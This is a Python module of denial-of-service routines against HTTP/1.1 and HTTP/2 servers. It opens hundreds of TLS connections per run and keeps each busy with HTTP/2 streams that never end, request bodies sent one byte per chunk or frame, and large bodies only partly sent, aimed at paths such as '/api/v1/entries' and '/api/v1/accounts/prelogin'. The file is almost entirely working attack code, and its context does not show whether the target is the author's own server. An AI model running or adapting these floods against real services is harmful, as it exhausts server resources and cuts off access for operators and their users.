"""Requests that are answered before they end, and never end: what they hold is there although nobody waits for it."""
import time

import http2
from wire import post


def h2(attack, fields=0, networks=3, connections=600):
    """Streams without an end whose answers are read."""
    more = [(f"x-{index}", "v" * 360) for index in range(fields)]

    def one(index):
        made = http2.Connection(attack.tls(index % networks, "h2", window=4_096))
        made.socket.settimeout(1)
        made.send(*(http2.request(2 * stream + 1, "/api/v1/entries", "POST", None, more, is_end=False)
                    for stream in range(32)))
        attack.count("streams", 32)
        end = time.monotonic() + 1
        try:
            while len(made.ended) < 32 and time.monotonic() < end and not made.is_over:
                made.read()
        except OSError:
            pass
        return made

    attack.crowd(attack.scaled(connections), one)
    attack.hold()


def _flood(attack, send, text, times, what, pieces):
    """Sends `text` again and again, until the node ends it."""
    try:
        for _ in range(times):
            send(text)
            attack.count(what, pieces)
    except OSError:
        attack.count("ended by the node")


def chunks_h1(attack, networks=8, connections=1_450):
    """A body in chunks of one byte each, for a route that does not want it."""
    text = b"1\r\na\r\n" * 2_700

    def one(index):
        made = attack.tls(index % networks, window=4_096)
        made.settimeout(0.3)
        made.sendall(post("/nope"))
        _flood(attack, made.sendall, text, 60, "chunks", 2_700)
        made.close()

    attack.crowd(attack.scaled(connections), one, threads=32)


def chunks_h2(attack, networks=8, connections=600):
    """The same in frames of one byte each, on streams that are answered and on one that is not."""
    text = (http2.frame(http2.DATA, 0, 1, b"a") + http2.frame(http2.DATA, 0, 3, b"a")) * 1_000

    def one(index):
        made = http2.Connection(attack.tls(index % networks, "h2"))
        made.socket.settimeout(0.5)
        made.send(http2.request(1, "/nope", "POST", None, is_end=False),
                  http2.request(3, "/api/v1/accounts/prelogin", "POST", None, is_end=False))
        _flood(attack, made.send, text, 16, "frames", 2_000)
        made.close()

    attack.crowd(attack.scaled(connections), one, threads=32)


def h1(attack, networks=8, connections=1_450):
    """A body of which a part comes, for a route that does not want it."""
    def one(index):
        made = attack.tls(index % networks, window=4_096)
        made.settimeout(0.3)
        made.sendall(post("/nope", 4_000_000))
        try:
            for _ in range(60):
                made.sendall(b"a" * 16_384)
                attack.count("kB", 16)
        except OSError:
            attack.count("stalled")
        return made

    attack.crowd(attack.scaled(connections), one, threads=32)
    attack.hold()
